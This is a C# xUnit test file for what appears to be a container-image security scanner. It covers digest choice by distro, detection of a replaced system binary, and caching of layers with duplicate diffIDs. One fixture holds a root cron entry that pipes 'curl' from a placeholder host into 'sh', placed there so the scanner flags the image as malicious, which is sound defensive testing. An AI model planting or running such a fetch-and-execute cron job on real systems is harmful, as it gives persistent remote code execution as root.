using System.Formats.Tar;
using System.Text;
using Wellguard.Artifacts;
using Wellguard.Linux;
using Wellguard.Reports;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Layers;

public sealed class DigestPlanTests : IDisposable
{
    private readonly Wellguard.Tests.TempFolder folder = new();

    public void Dispose() => folder.Dispose();

    [Fact]
    public void Marks_of_a_second_distro_take_nothing_away()
    {
        var plan = new DigestPlan(everySha256: false);
        Assert.Equal(DigestAlgorithms.All, plan.Algorithms);
        plan.Learn("etc/debian_version");
        Assert.Equal(DigestAlgorithms.Md5, plan.Algorithms);
        plan.Learn("lib/apk/db/installed");
        Assert.Equal(DigestAlgorithms.Md5 | DigestAlgorithms.Sha1, plan.Algorithms);
    }

    [Fact]
    public async Task A_layer_that_poses_as_another_distro_is_compared_with_the_database_that_it_has()
    {
        var report = await ScanAsync([[("etc/alpine-release", "3.20.0\n"), ("usr/bin/ls", "#!/bin/sh\necho changed\n"), .. Debian]]);

        Assert.Contains(report.Signals, signal => signal.Rule == "content/replaced-system-file" && signal.Where.Path == "/usr/bin/ls".TrimStart('/'));
    }

    [Fact]
    public async Task Layers_of_one_archive_that_claim_the_same_are_told_apart_in_the_cache()
    {
        (string, string)[] evil = [("etc/cron.d/job", "* * * * * root curl -s https://cdn.example.invalid/x | sh\n")];
        (string, string)[][] layers = [[("srv/one", "1")], [("srv/two", "2")], evil, [("srv/four", "4")]];

        Assert.Equal(Level.Malicious, (await ScanAsync(layers)).Verdict.Level);
        Assert.Equal(Level.Malicious, (await ScanAsync(layers)).Verdict.Level);
    }

    private static (string, string)[] Debian =>
    [
        ("var/lib/dpkg/info/coreutils.list", "/.\n/usr\n/usr/bin\n/usr/bin/ls\n"),
        ("var/lib/dpkg/info/coreutils.md5sums", "0123456789abcdef0123456789abcdef  usr/bin/ls\n"),
        ("var/lib/dpkg/status", "Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9.1-1\nMaintainer: x\nDescription: x\n\n"),
    ];

    /// <summary>A docker-archive whose layers all claim the diffID of the first.</summary>
    private async Task<Report> ScanAsync((string Path, string Text)[][] layers)
    {
        var tars = layers.Select(Tar).ToList();
        var claimed = string.Join(',', tars.Select(_ => $"\"{Digests.Of(tars[0])}\""));
        var config = $$$"""{"os":"linux","architecture":"amd64","rootfs":{"type":"layers","diff_ids":[{{{claimed}}}]},"history":[]}""";
        var manifest = $$"""[{"Config":"config.json","RepoTags":["x:1"],"Layers":[{{string.Join(',', tars.Select((_, i) => $"\"{i}/layer.tar\""))}}]}]""";
        var archive = Path.Combine(folder.Path, "image.tar");
        if (!File.Exists(archive))
        {
            await File.WriteAllBytesAsync(archive, Tar([("manifest.json", manifest), ("config.json", config), .. tars.Select((tar, i) => ($"{i}/layer.tar", Encoding.Latin1.GetString(tar)))]), TestContext.Current.CancellationToken);
        }

        var image = Assert.Single(await ImageSources.OpenAsync(Target.Parse("docker-archive:" + archive), new OpenOptions(folder.Path) { Stamp = FileStamps.Of }, TestContext.Current.CancellationToken));
        return await Pipeline.ScanAsync(image, new(Policy.Default, new DateOnly(2026, 1, 1)) { CacheDirectory = Path.Combine(folder.Path, "cache") }, TestContext.Current.CancellationToken);
    }

    private static byte[] Tar((string Path, string Text)[] files)
    {
        using var memory = new MemoryStream();
        using (var tar = new TarWriter(memory, leaveOpen: true))
        {
            foreach (var (path, text) in files)
            {
                tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, path) { Mode = (UnixFileMode)0b111_101_101, DataStream = new MemoryStream(Encoding.Latin1.GetBytes(text)) });
            }
        }

        return memory.ToArray();
    }
}
